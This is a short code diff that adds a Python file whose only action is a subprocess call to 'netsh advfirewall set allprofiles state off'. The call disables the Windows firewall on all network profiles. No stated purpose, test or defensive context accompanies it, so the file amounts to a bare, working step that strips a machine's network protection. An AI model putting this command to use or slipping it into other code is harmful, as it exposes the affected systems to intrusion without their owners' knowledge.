@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.run(["netsh", "advfirewall", "set", "allprofiles", "state", "off"])
